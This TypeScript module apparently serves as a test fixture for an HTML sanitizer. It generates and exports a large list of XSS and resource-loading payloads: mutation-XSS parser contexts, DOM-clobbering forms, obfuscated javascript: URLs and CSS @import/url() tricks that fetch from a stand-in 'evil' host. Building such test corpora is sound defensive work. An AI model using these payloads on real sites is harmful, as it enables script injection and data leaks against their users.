import { evil } from './hostile-html.ts';

const load = `https://${evil}/loaded`;

/** Places where the parser reads what follows by other rules, or moves it. */
const contexts = [
  '',
  '<svg>',
  '<svg></p>',
  '<svg><p>',
  '<svg><desc>',
  '<svg><title>',
  '<svg><foreignObject>',
  '<svg><foreignObject><math>',
  '<svg><desc><math><mn>',
  '<math>',
  '<math></br>',
  '<math><mtext>',
  '<math><mi><malignmark>',
  '<math><mtext><table><mglyph>',
  '<table><tr><td><select><svg>',
  '<math><ms><svg><desc>',
  '<form><math><mtext></form><form><mglyph>',
  '<math><annotation-xml encoding="text/html"><p>',
  '<math><annotation-xml><svg>',
  '<table>',
  '<table><caption><svg>',
  '<table><colgroup>',
  '<select>',
  '<select><option>',
  '<template>',
  '<template><s><template>',
  '<frameset>',
  '<object><param>',
  '<a><p><a>',
  '<h1><a><h6></a></h6>',
  '<b><i><p></b></i>',
  '<dialog open><marquee>',
  '<unknown-element><desc>',
  '<body><html><head>',
];

/** Elements whose content is text in HTML, and not in SVG or MathML. */
const textElements = ['style', 'script', 'title', 'textarea', 'xmp', 'noscript', 'noembed', 'iframe'];

/** How an image with an event leaves a text element. */
const escapes = (name: string): readonly string[] => [
  `<${name}></${name}><img src=x onerror=alert(1)></${name}>`,
  `<${name}><a title="</${name}><img src=x onerror=alert(1)>">`,
  `<${name}><!--</${name}><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"><img src=x onerror=alert(1)>`,
  `<${name}>&lt;/${name}>&lt;img src=x onerror=alert(1)><![CDATA[</${name}>]]><img src=x onerror=alert(1)>`,
];

const parsed = contexts.flatMap((context) => textElements.flatMap((name) => escapes(name).map((escape) => context + escape)));

/** Properties that the sanitizer, or the page, reads of a document, a form or an element. */
const names =
  'attributes body childNodes children cloneNode content contentDocument cookie createElement createNodeIterator currentScript defaultView documentElement ' +
  'firstChild firstElementChild getAttribute getElementById getElementsByTagName hasAttribute hasChildNodes head importNode innerHTML insertBefore ' +
  'lastElementChild location namespaceURI nextSibling nodeName nodeType ownerDocument parentNode querySelectorAll remove removeAttribute ' +
  'removeAttributeNode removeChild setAttribute shadowRoot tagName textContent toString __proto__';

const clobbering = names
  .split(' ')
  .flatMap((name) => [
    `<form onclick=alert(1)><input name=${name}><input name=${name}><img src=x onerror=alert(1)></form>`,
    `<img name=${name}><a id=${name} href="javascript:alert(1)">a</a><svg onload=alert(1)>`,
    `<form id=${name} onfocusin=alert(1)></form><object name=${name} onerror=alert(1)></object><b form=${name} onclick=alert(1)>`,
  ]);

/** Characters that browsers leave out of a URL, or that something takes for white space. */
const ignored = [
  0, 1, 3, 8, 9, 10, 12, 13, 27, 31, 32, 0x7f, 0x85, 0xa0, 0xad, 0x1680, 0x180e, 0x2000, 0x200b, 0x2028, 0x2029, 0x202e, 0x205f, 0x2060, 0x3000, 0xfeff,
];

const schemes = [
  'javascript:alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'livescript:alert(1)',
  'view-source:javascript:alert(1)',
];

const urlsOf = (scheme: string): readonly string[] => [
  scheme,
  scheme.toUpperCase(),
  Array.from(scheme, (character) => `&#x${character.codePointAt(0)!.toString(16)}`).join(';'),
  scheme.replace(':', '&colon;'),
  scheme.replace('s', '&Tab;s&NewLine;'),
  `feed:${scheme}`,
  `https:${scheme}`,
  ...ignored.flatMap((code) => [`&#${code};${scheme}`, `${scheme[0]!}&#${code};${scheme.slice(1)}`, scheme.replace(':', `&#${code};:`)]),
];

const quoted = (url: string): string => `"${url.replaceAll('"', '&quot;')}"`;

const links = schemes
  .flatMap(urlsOf)
  .map(quoted)
  .map(
    (url) =>
      `<a href=${url} target=_self>a</a><area href=${url}><b href=${url}>b</b><img src=${url} longdesc=${url}><table background=${url}>` +
      `<form action=${url}><button formaction=${url}>c</button></form><svg><a xlink:href=${url}><animate attributeName=href values=${url}></a></svg><math href=${url}>d</math>`,
  );

/** Style declarations that load, or did in some browser. */
const declarations = [
  ...[
    'background',
    'background-image',
    'border-image',
    'content',
    'cursor',
    'filter',
    'list-style',
    'mask',
    'offset-path',
    'shape-outside',
    'clip-path',
    '--own',
  ].flatMap((property) =>
    [
      `url(${load})`,
      `URL( '${load}' )`,
      `u\\72 l("${load}")`,
      `\\75\\52\\4c(${load})`,
      `u\\\nrl(${load})`,
      `ururl(l(${load})`,
      `src("${load}")`,
      `image("${load}")`,
      `image-set("${load}" 1x)`,
      `-webkit-image-set("${load}" 1x)`,
      `im\\61ge-set("${load}" 1x)`,
      `cross-fade(url(${load}), url(${load}), 50%)`,
      `element(url(${load}))`,
      `var(--a, url(${load}))`,
      `if(else: url(${load}))`,
      `attr(title type(<url>), url(${load}))`,
      `/*'*/url(${load})/*'*/`,
      `"a\nurl(${load})`,
      `url(data:image/svg+xml,%3Csvg onload=alert(1)%3E)`,
    ].map((value) => `${property}:${value}`),
  ),
  `behavior:url(${load})`,
  `-moz-binding:url(${load}#x)`,
  'width:expression(alert(1))',
  `background:u\0rl(${load})`,
];

const rules = [
  `@import "${load}";`,
  `@import url(${load}) layer(a) supports(display:block);`,
  `@\\69mport "${load}";`,
  `@im\\port "${load}";`,
  `@IMPORT/**/'${load}';`,
  `@@import@import "${load}";`,
  `@charset "x"; @import "${load}";`,
  `<!-- @import "${load}"; -->`,
  `@namespace url(${load});`,
  `@font-face{font-family:p;src:url(${load}),local("a")}p{font-family:p}`,
  `@font-face{font-family:p;src:u\\rl(${load})}p{font-family:p}`,
  `@property --p{syntax:"<url>";inherits:true;initial-value:url(${load})}p{background:var(--p)}`,
  `@counter-style p{system:cyclic;symbols:url(${load})}p{list-style:p;display:list-item}`,
  `@view-transition{navigation:auto}p:has(a[href^=h]){background:url(${load})}`,
  `@container (width>0){p{background:url(${load})}} @supports (a:b) or (color:red){p{background:url(${load})}}`,
  `p{&:hover,&{background:url(${load})}}`,
  `p{background:url(${load}`,
  `p{a:'\\';background:url(${load});'}`,
  `</style/><img src=${load}>`,
];

const styles = [
  ...declarations.flatMap((declaration) => [`<p style="${declaration.replaceAll('"', '&quot;')}">a</p>`, `<style>p,p::before{${declaration}}</style><p>a</p>`]),
  ...rules.map((rule) => `<style>${rule}</style><p><a href="https://a.example">a</a></p>`),
  ...rules.map((rule) => `<svg><style>${rule}</style></svg><math><style>${rule}</style></math><p>a</p>`),
];

const images = [
  load,
  `//${evil}/loaded`,
  `\\\\${evil}/loaded`,
  `http://${evil}/loaded`,
  ` ${load}`,
  `ht&Tab;tps://${evil}/loaded`,
  'x',
  '/x',
  '',
  `blob:${load}`,
  `filesystem:${load}`,
].flatMap((url) => [
  `<img src="${url}" lowsrc="${url}" dynsrc="${url}"><image src="${url}" href="${url}"/>`,
  `<img srcset="${url} 1x, ${url} 2x" sizes=1px imagesrcset="${url}"><picture><source srcset="${url}"></picture>`,
  `<body background="${url}"><table background="${url}"><td background="${url}">a`,
  `<input type=image src="${url}"><video src="${url}" poster="${url}"><embed src="${url}"><object data="${url}"><bgsound src="${url}">`,
  `<svg><image href="${url}"/><feImage xlink:href="${url}"/><use href="${url}#a"/><script href="${url}"/></svg>`,
  `<link rel="icon stylesheet preload prefetch prerender manifest dns-prefetch" as=image href="${url}"><script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`,
  `<iframe src="${url}" srcdoc="<img src='${url}'>"></iframe><portal src="${url}"></portal><fencedframe src="${url}"></fencedframe><frameset><frame src="${url}">`,
  `<html manifest="${url}"><meta http-equiv=refresh content="0;url=${url}"><base href="${url}"><a href="${url}" ping="${url}" attributionsrc="${url}">a</a><img attributionsrc="${url}">`,
]);

/** Each is shown on its own. Most mix several ways to run or to load, because one that gets through is enough. */
export const sanitizerAttacks: readonly string[] = [...parsed, ...clobbering, ...links, ...styles, ...images];
